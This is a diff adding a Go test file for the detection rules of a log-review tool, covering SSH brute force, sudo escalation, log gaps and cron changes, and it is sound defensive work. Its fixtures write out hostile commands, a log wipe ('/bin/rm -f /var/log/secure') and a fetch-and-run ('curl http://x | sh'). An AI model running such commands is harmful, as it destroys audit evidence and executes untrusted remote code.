@@ -1,0 +1,347 @@
+package check
+
+import (
+	"fmt"
+	"testing"
+	"time"
+
+	"github.com/logwarden/logwarden/internal/review/parse"
+	"github.com/logwarden/logwarden/internal/review/policy"
+)
+
+var kst = time.FixedZone("KST", 9*3600)
+
+// period is November 2026 in KST.
+var pStart, pEnd = time.Date(2026, 11, 1, 0, 0, 0, 0, kst), time.Date(2026, 12, 1, 0, 0, 0, 0, kst)
+
+// at returns a KST time in November 2026: day, hour, minute, second.
+func at(d, h, m, s int) time.Time { return time.Date(2026, 11, d, h, m, s, 0, kst) }
+
+type rb struct{ line int64 }
+
+func (b *rb) r(t time.Time, k parse.Kind, f func(*parse.Record)) parse.Record {
+	b.line++
+	r := parse.Record{Time: t, Host: "web1", Kind: k, Source: "var/log/secure", Line: b.line}
+	if f != nil {
+		f(&r)
+	}
+	return r
+}
+
+func fail(ip, user string) func(*parse.Record) {
+	return func(r *parse.Record) { r.Program, r.SrcIP, r.User, r.Method = "sshd", ip, user, "password" }
+}
+
+func ok(ip, user string, pid int) func(*parse.Record) {
+	return func(r *parse.Record) {
+		r.Program, r.SrcIP, r.User, r.Method, r.PID = "sshd", ip, user, "publickey", pid
+	}
+}
+
+func run(t *testing.T, p *policy.Policy, recs []parse.Record) map[string]Result {
+	t.Helper()
+	if p == nil {
+		p = policy.Default()
+	}
+	e := New(p, pStart, pEnd)
+	for i := range recs {
+		e.Add(&recs[i])
+	}
+	out := map[string]Result{}
+	for _, r := range e.Results() {
+		out[r.ID] = r
+	}
+	return out
+}
+
+func burst(b *rb, day, hour int, ip string, n int, spacing time.Duration, users ...string) []parse.Record {
+	var out []parse.Record
+	for i := 0; i < n; i++ {
+		u := "root"
+		if len(users) > 0 {
+			u = users[i%len(users)]
+		}
+		out = append(out, b.r(at(day, hour, 0, 0).Add(time.Duration(i)*spacing), parse.KindSSHFailed, fail(ip, u)))
+	}
+	return out
+}
+
+func TestChecks(t *testing.T) {
+	tests := []struct {
+		name    string
+		pol     func(*policy.Policy)
+		recs    func(b *rb) []parse.Record
+		id      string
+		verdict Verdict
+		items   int
+		counts  map[string]int
+	}{
+		{"R01 below notice", nil, func(b *rb) []parse.Record { return burst(b, 2, 3, "198.51.100.7", 4, time.Minute) },
+			"R01", Pass, 0, map[string]int{"failures": 4}},
+		{"R01 notice", nil, func(b *rb) []parse.Record { return burst(b, 2, 3, "198.51.100.7", 5, time.Minute) },
+			"R01", Notice, 1, map[string]int{"failures": 5, "source_ips": 1}},
+		{"R01 spread out stays pass", nil, func(b *rb) []parse.Record { return burst(b, 2, 3, "198.51.100.7", 30, 3*time.Minute) },
+			"R01", Pass, 0, nil},
+		{"R01 finding in window", nil, func(b *rb) []parse.Record { return burst(b, 2, 3, "198.51.100.7", 20, 10*time.Second) },
+			"R01", Finding, 1, nil},
+		{"R01 finding daily", nil, func(b *rb) []parse.Record { return burst(b, 2, 0, "198.51.100.7", 100, 10*time.Minute) },
+			"R01", Finding, 1, nil},
+		{"R01 two IPs", nil, func(b *rb) []parse.Record {
+			return append(burst(b, 2, 3, "198.51.100.7", 6, time.Second), burst(b, 3, 3, "203.0.113.9", 25, time.Second)...)
+		}, "R01", Finding, 2, map[string]int{"source_ips": 2}},
+		{"R01 btmp duplicate not counted", nil, func(b *rb) []parse.Record {
+			out := burst(b, 2, 3, "198.51.100.7", 4, time.Minute)
+			for _, r := range out[:4] {
+				d := r
+				d.Kind, d.Program, d.Source = parse.KindBtmpFailed, "btmp", "var/log/btmp"
+				out = append(out, d)
+			}
+			return out
+		}, "R01", Pass, 0, map[string]int{"failures": 4}},
+		{"R02 spray", nil, func(b *rb) []parse.Record {
+			return burst(b, 4, 1, "192.0.2.50", 10, 30*time.Second, "a", "b", "c", "d", "e", "f", "g", "h", "i", "j")
+		}, "R02", Finding, 1, nil},
+		{"R02 nine users pass", nil, func(b *rb) []parse.Record {
+			return burst(b, 4, 1, "192.0.2.50", 18, 30*time.Second, "a", "b", "c", "d", "e", "f", "g", "h", "i")
+		}, "R02", Pass, 0, nil},
+		{"R03 account notice", nil, func(b *rb) []parse.Record {
+			var out []parse.Record
+			for i := 0; i < 10; i++ {
+				out = append(out, b.r(at(5, 1, 0, 0).Add(time.Duration(i)*time.Hour), parse.KindSSHFailed, fail(fmt.Sprintf("10.9.0.%d", i), "alice")))
+			}
+			return out
+		}, "R03", Notice, 1, map[string]int{"failures_existing_accounts": 10}},
+		{"R03 invalid users ignored", nil, func(b *rb) []parse.Record {
+			var out []parse.Record
+			for i := 0; i < 12; i++ {
+				out = append(out, b.r(at(5, 1, i, 0), parse.KindSSHFailed, func(r *parse.Record) {
+					fail("10.9.0.1", "ghost")(r)
+					r.Detail = parse.DetailInvalidUser
+				}))
+			}
+			return out
+		}, "R03", Pass, 0, map[string]int{"failures_existing_accounts": 0}},
+		{"R03 root lockout", nil, func(b *rb) []parse.Record {
+			return []parse.Record{b.r(at(5, 1, 0, 0), parse.KindAccountLocked, func(r *parse.Record) { r.User = "root" })}
+		}, "R03", Finding, 1, map[string]int{"lockouts": 1}},
+		{"R04 success after failures", nil, func(b *rb) []parse.Record {
+			out := burst(b, 6, 2, "198.51.100.7", 5, time.Minute, "alice")
+			return append(out, b.r(at(6, 2, 10, 0), parse.KindSSHAccepted, ok("198.51.100.7", "alice", 10)))
+		}, "R04", Finding, 1, map[string]int{"logins": 1}},
+		{"R04 failures too old", nil, func(b *rb) []parse.Record {
+			out := burst(b, 6, 2, "198.51.100.7", 5, time.Minute, "alice")
+			return append(out, b.r(at(6, 3, 30, 0), parse.KindSSHAccepted, ok("198.51.100.7", "alice", 10)))
+		}, "R04", Pass, 0, nil},
+		{"R05 remote root", nil, func(b *rb) []parse.Record {
+			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindSSHAccepted, ok("203.0.113.5", "root", 1))}
+		}, "R05", Finding, 1, map[string]int{"root_logins": 1}},
+		{"R05 console root", nil, func(b *rb) []parse.Record {
+			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindRootLoginConsole, func(r *parse.Record) { r.User, r.TTY = "root", "tty1" })}
+		}, "R05", Notice, 1, nil},
+		{"R05 refused only", nil, func(b *rb) []parse.Record {
+			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindSSHRootRefused, func(r *parse.Record) { r.User, r.SrcIP = "root", "1.2.3.4" })}
+		}, "R05", Pass, 0, map[string]int{"root_refused": 1}},
+		{"R06 su by non-member", func(p *policy.Policy) { p.AllowedSuUsers = []string{"alice"} }, func(b *rb) []parse.Record {
+			return []parse.Record{
+				b.r(at(9, 10, 0, 0), parse.KindSuSuccess, func(r *parse.Record) { r.User, r.TargetUser = "alice", "root" }),
+				b.r(at(9, 11, 0, 0), parse.KindSuSuccess, func(r *parse.Record) { r.User, r.TargetUser = "mallory", "root" }),
+			}
+		}, "R06", Finding, 2, map[string]int{"su_success": 2}},
+		{"R06 su failure", func(p *policy.Policy) { p.AllowedSuUsers = []string{"alice"} }, func(b *rb) []parse.Record {
+			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindSuFailure, func(r *parse.Record) { r.User, r.TargetUser = "alice", "root" })}
+		}, "R06", Notice, 1, map[string]int{"su_failure": 1}},
+		{"R07 not in sudoers", nil, func(b *rb) []parse.Record {
+			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindSudoNotAllowed, func(r *parse.Record) { r.User, r.Detail = "bob", "not_in_sudoers" })}
+		}, "R07", Finding, 1, map[string]int{"sudo_denied": 1}},
+		{"R07 shell escalation", nil, func(b *rb) []parse.Record {
+			return []parse.Record{
+				b.r(at(9, 10, 0, 0), parse.KindSudoCommand, func(r *parse.Record) { r.User, r.TargetUser, r.Command = "alice", "root", "/bin/bash" }),
+				b.r(at(9, 10, 1, 0), parse.KindSudoCommand, func(r *parse.Record) {
+					r.User, r.TargetUser, r.Command = "alice", "root", "/usr/bin/systemctl restart nginx"
+				}),
+			}
+		}, "R07", Notice, 1, map[string]int{"sudo_commands": 2, "high_risk_commands": 1}},
+		{"R08 uid 0", nil, func(b *rb) []parse.Record {
+			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindUserMod, func(r *parse.Record) { r.User, r.Detail = "bob", "uid 1001->0" })}
+		}, "R08", Finding, 1, nil},
+		{"R08 wheel add", nil, func(b *rb) []parse.Record {
+			return []parse.Record{
+				b.r(at(9, 10, 0, 0), parse.KindUserAdd, func(r *parse.Record) { r.User, r.Detail = "bob", "uid=1001 gid=1001" }),
+				b.r(at(9, 10, 0, 1), parse.KindGroupMemberAdd, func(r *parse.Record) { r.User, r.Group = "bob", "wheel" }),
+			}
+		}, "R08", Finding, 2, map[string]int{"changes": 2}},
+		{"R08 useradd only is info", nil, func(b *rb) []parse.Record {
+			return []parse.Record{b.r(at(9, 10, 0, 0), parse.KindUserAdd, func(r *parse.Record) { r.User, r.Detail = "bob", "uid=1001 gid=1001" })}
+		}, "R08", Pass, 1, nil},
+		{"R09 night, weekend, holiday", nil, func(b *rb) []parse.Record {
+			return []parse.Record{
+				b.r(at(2, 3, 0, 0), parse.KindSSHAccepted, ok("10.0.0.5", "alice", 1)),  // Mon 03:00
+				b.r(at(7, 12, 0, 0), parse.KindSSHAccepted, ok("10.0.0.5", "alice", 2)), // Sat
+				b.r(at(2, 10, 0, 0), parse.KindSSHAccepted, ok("10.0.0.5", "alice", 3)), // Mon 10:00
+			}
+		}, "R09", Notice, 1, map[string]int{"logins": 3, "off_hours_logins": 2}},
+		{"R10 expected source missing", func(p *policy.Policy) { p.ExpectedSources = []string{"auth", "cron"} }, func(b *rb) []parse.Record {
+			var out []parse.Record
+			for h := 0; h < 30*24; h += 6 {
+				out = append(out, b.r(pStart.Add(time.Duration(h)*time.Hour), parse.KindOther, nil))
+			}
+			return out
+		}, "R10", Finding, 1, map[string]int{"gaps": 0}},
+		{"R10 gap", nil, func(b *rb) []parse.Record {
+			var out []parse.Record
+			for h := 0; h < 30*24; h += 2 {
+				if h > 100 && h < 140 {
+					continue
+				}
+				out = append(out, b.r(pStart.Add(time.Duration(h)*time.Hour), parse.KindOther, nil))
+			}
+			return out
+		}, "R10", Notice, 2, map[string]int{"gaps": 1}}, // the gap, and coverage 94.5% < 95%
+		{"R10 log wipe", nil, func(b *rb) []parse.Record {
+			var out []parse.Record
+			for h := 0; h < 30*24; h += 2 {
+				out = append(out, b.r(pStart.Add(time.Duration(h)*time.Hour), parse.KindOther, nil))
+			}
+			return append(out, b.r(at(30, 23, 0, 1), parse.KindSudoCommand, func(r *parse.Record) { r.User, r.Command = "eve", "/bin/rm -f /var/log/secure" }))
+		}, "R10", Finding, 1, map[string]int{"log_wipe_commands": 1}},
+		{"R11 rsyslog stop", nil, func(b *rb) []parse.Record {
+			return []parse.Record{
+				b.r(at(9, 1, 0, 0), parse.KindServiceStop, func(r *parse.Record) { r.Program, r.Detail = "systemd", "rsyslog.service - System Logging Service" }),
+				b.r(at(9, 1, 5, 0), parse.KindServiceStop, func(r *parse.Record) { r.Program, r.Detail = "systemd", "nginx.service" }),
+			}
+		}, "R11", Finding, 1, map[string]int{"service_stops": 2}},
+		{"R11 stop before reboot is notice", nil, func(b *rb) []parse.Record {
+			return []parse.Record{
+				b.r(at(9, 1, 0, 0), parse.KindServiceStop, func(r *parse.Record) { r.Program, r.Detail = "systemd", "auditd.service" }),
+				b.r(at(9, 1, 1, 0), parse.KindShutdown, nil),
+				b.r(at(9, 1, 3, 0), parse.KindBoot, nil),
+			}
+		}, "R11", Notice, 3, map[string]int{"boots": 1, "shutdowns": 1}},
+		{"R12 n/a without networks", nil, func(b *rb) []parse.Record { return nil }, "R12", NA, 0, nil},
+		{"R12 unapproved", func(p *policy.Policy) { p.ApprovedAdminCIDRs = []string{"10.0.0.0/8"} }, func(b *rb) []parse.Record {
+			return []parse.Record{
+				b.r(at(2, 10, 0, 0), parse.KindSSHAccepted, ok("10.0.0.5", "alice", 1)),
+				b.r(at(2, 10, 5, 0), parse.KindSSHAccepted, ok("203.0.113.5", "alice", 2)),
+			}
+		}, "R12", Finding, 1, map[string]int{"remote_logins": 2}},
+		{"R13 n/a without baseline", nil, func(b *rb) []parse.Record { return nil }, "R13", NA, 0, nil},
+		{"R15 crontab replace and bad cmd", nil, func(b *rb) []parse.Record {
+			return []parse.Record{
+				b.r(at(2, 10, 0, 0), parse.KindCronEdit, func(r *parse.Record) { r.User, r.Detail = "root", "REPLACE" }),
+				b.r(at(2, 10, 1, 0), parse.KindCronCmd, func(r *parse.Record) { r.User, r.Command = "root", "curl http://x | sh" }),
+				b.r(at(2, 10, 2, 0), parse.KindCronCmd, func(r *parse.Record) { r.User, r.Command = "root", "/usr/lib64/sa/sa1 1 1" }),
+			}
+		}, "R15", Finding, 2, map[string]int{"cron_commands": 2, "crontab_changes": 1}},
+		{"R16 clock", nil, func(b *rb) []parse.Record {
+			return []parse.Record{b.r(at(2, 10, 0, 0), parse.KindClockChange, nil)}
+		}, "R16", Notice, 1, nil},
+		{"R17 concurrent and long", nil, func(b *rb) []parse.Record {
+			closeF := func(pid int) func(*parse.Record) {
+				return func(r *parse.Record) { r.Method, r.User, r.PID = "sshd", "ops", pid }
+			}
+			return []parse.Record{
+				b.r(at(2, 10, 0, 0), parse.KindSSHAccepted, ok("10.0.0.5", "ops", 100)),
+				b.r(at(2, 10, 30, 0), parse.KindSSHAccepted, ok("10.0.0.6", "ops", 101)),
+				b.r(at(2, 11, 0, 0), parse.KindPAMSessionClose, closeF(101)),
+				b.r(at(3, 1, 0, 0), parse.KindPAMSessionClose, closeF(100)),
+			}
+		}, "R17", Notice, 2, map[string]int{"sessions": 2, "long_sessions": 1, "concurrent": 1}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p := policy.Default()
+			if tt.pol != nil {
+				tt.pol(p)
+			}
+			res := run(t, p, tt.recs(&rb{}))[tt.id]
+			if res.Verdict != tt.verdict {
+				t.Errorf("%s verdict = %s, want %s; items: %+v", tt.id, res.Verdict, tt.verdict, res.Items)
+			}
+			if len(res.Items) != tt.items {
+				t.Errorf("%s items = %d, want %d: %+v", tt.id, len(res.Items), tt.items, res.Items)
+			}
+			for k, v := range tt.counts {
+				if res.Counts[k] != v {
+					t.Errorf("%s counts[%s] = %d, want %d (all: %v)", tt.id, k, res.Counts[k], v, res.Counts)
+				}
+			}
+			for _, it := range res.Items {
+				if it.Severity != SevInfo && it.Key == "" {
+					t.Errorf("item without key: %+v", it)
+				}
+				if len(it.Evidence) > MaxRefs {
+					t.Errorf("item has %d refs, more than %d", len(it.Evidence), MaxRefs)
+				}
+			}
+		})
+	}
+}
+
+func TestResults_OrderIndependent(t *testing.T) {
+	b := &rb{}
+	recs := append(burst(b, 2, 3, "198.51.100.7", 25, time.Second, "a", "b", "c"), burst(b, 2, 3, "203.0.113.9", 7, time.Second)...)
+	recs = append(recs, b.r(at(2, 3, 5, 0), parse.KindSSHAccepted, ok("198.51.100.7", "a", 9)))
+	fwd := run(t, nil, recs)
+	rev := make([]parse.Record, len(recs))
+	for i := range recs {
+		rev[len(recs)-1-i] = recs[i]
+	}
+	bwd := run(t, nil, rev)
+	for id, r := range fwd {
+		if fmt.Sprint(r) != fmt.Sprint(bwd[id]) {
+			t.Errorf("%s differs with input order:\n%v\n%v", id, r, bwd[id])
+		}
+	}
+}
+
+func TestEvidenceRefs(t *testing.T) {
+	b := &rb{}
+	recs := burst(b, 2, 3, "198.51.100.7", 6, time.Second)
+	res := run(t, nil, recs)["R01"]
+	if len(res.Items) != 1 {
+		t.Fatalf("items = %d", len(res.Items))
+	}
+	it := res.Items[0]
+	if it.EvidenceTotal != 6 || len(it.Evidence) != 6 || it.Evidence[0] != (Ref{"var/log/secure", 1}) || it.Evidence[5].Line != 6 {
+		t.Fatalf("evidence = %+v (total %d)", it.Evidence, it.EvidenceTotal)
+	}
+	if it.Key != "R01|web1|198.51.100.7" {
+		t.Fatalf("key = %q", it.Key)
+	}
+}
+
+func TestCoverage(t *testing.T) {
+	b := &rb{}
+	var recs []parse.Record
+	for h := 0; h < 30*24; h++ {
+		if h >= 48 && h < 80 { // 32 h silent on 3–4 Nov
+			continue
+		}
+		recs = append(recs, b.r(pStart.Add(time.Duration(h)*time.Hour+time.Minute), parse.KindOther, nil))
+	}
+	recs = append(recs, b.r(pStart.Add(-time.Hour), parse.KindOther, nil))
+	e := New(policy.Default(), pStart, pEnd)
+	for i := range recs {
+		e.Add(&recs[i])
+	}
+	cov := e.Coverage()
+	if len(cov) != 1 {
+		t.Fatalf("coverage sources = %d", len(cov))
+	}
+	c := cov[0]
+	if c.Records != 30*24-32 || c.OutOfPeriod != 1 {
+		t.Errorf("records %d out %d", c.Records, c.OutOfPeriod)
+	}
+	if len(c.PerDay) != 30 || c.PerDay[0] != 24 || c.PerDay[2] != 0 || c.PerDay[3] != 16 {
+		t.Errorf("per day = %v", c.PerDay)
+	}
+	if len(c.Gaps) != 1 || c.Gaps[0].Hours != 32 {
+		t.Errorf("gaps = %+v", c.Gaps)
+	}
+	if want := (720 - 32) * 1000 / 720; c.CoveragePermille != want {
+		t.Errorf("coverage = %d‰, want %d", c.CoveragePermille, want)
+	}
+	if c.NonMonotonic != 1 {
+		t.Errorf("non-monotonic = %d, want 1 (the record an hour before the period came last)", c.NonMonotonic)
+	}
+}
